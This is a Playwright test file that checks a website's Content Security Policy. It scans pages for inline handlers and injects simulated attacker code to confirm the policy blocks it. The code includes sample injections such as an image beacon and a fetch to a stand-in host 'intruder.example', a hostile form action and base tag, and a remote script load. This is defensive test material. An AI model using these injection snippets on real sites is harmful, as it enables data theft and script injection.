import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { Page } from 'playwright-core'
import { openScreen, siteUrl } from '../../support/browser/open-screen.ts'
import { createVisitor } from '../../support/browser/visitor.ts'

const PAGES = ['/', '/projects', '/projects/commander', '/authentication', '/nothing/here', '/%']

/** Code that an attacker might inject into a page. The key is the directive that blocks it. */
const INTRUSIONS = {
  'script-src-elem': () => {
    const script = document.createElement('script')
    script.textContent = 'document.documentElement.dataset.intruded = ""'
    document.body.append(script)
  },
  'script-src-attr': () => {
    document.body.setAttribute('onclick', 'document.documentElement.dataset.intruded = ""')
    document.body.click()
  },
  'style-src-elem': () => {
    const style = document.createElement('style')
    style.textContent = 'main { display: none }'
    document.head.append(style)
  },
  'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
  'img-src': () => {
    new Image().src = 'https://intruder.example/?stolen'
  },
  'connect-src': () => void fetch('https://intruder.example/').catch(() => undefined),
  'frame-src': () => {
    const frame = document.createElement('iframe')
    frame.src = 'https://intruder.example/'
    document.body.append(frame)
  },
  'form-action': () => {
    const form = document.createElement('form')
    form.action = 'https://intruder.example/'
    document.body.append(form)
    form.submit()
  },
  'base-uri': () => {
    const base = document.createElement('base')
    base.href = 'https://intruder.example/'
    document.head.append(base)
  },
} as const

/** Stores the directive of the latest violation in the page, so the test can read it. */
async function noteViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      document.documentElement.dataset.violated = effectiveDirective
    })
  })
}

describe('content security policy', () => {
  for (const path of PAGES) {
    test(`has no inline styles or handlers to block at ${path}`, async () => {
      const answer = await fetch((await siteUrl()) + path)
      const html = await answer.text()

      const markup = html.replace(/(<(script|style)\b[^>]*>).*?<\/\2>/gs, '$1')
      const tags = markup.match(/<[a-z][^>]*>/gi) ?? []

      assert.ok(tags.length > 20)
      assert.deepEqual(
        tags.filter((tag) => /\s(?:style|on[a-z]+)\s*=/i.test(tag)),
        [],
      )
      assert.deepEqual(
        tags.filter((tag) => /=\s*["']?\s*javascript:/i.test(tag)),
        [],
      )
    })
  }

  for (const [directive, intrude] of Object.entries(INTRUSIONS)) {
    test(`blocks injected code: ${directive}`, async () => {
      const { page, leave } = await createVisitor()
      await openScreen(page, '/')
      await noteViolations(page)

      await page.evaluate(intrude)

      await page.waitForFunction((wanted) => document.documentElement.dataset.violated === wanted, directive)
      assert.equal(await page.locator('html').getAttribute('data-intruded'), null)
      assert.equal(await page.getByRole('main').isVisible(), true)
      await leave(/Content Security Policy/)
    })
  }

  test('blocks scripts from other origins', async () => {
    const { page, leave } = await createVisitor()
    await openScreen(page, '/')
    await noteViolations(page)

    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://intruder.example/script.js'
      document.body.append(script)
    })

    await page.waitForFunction(() => document.documentElement.dataset.violated === 'script-src-elem')
    await leave(/Content Security Policy/)
  })
})
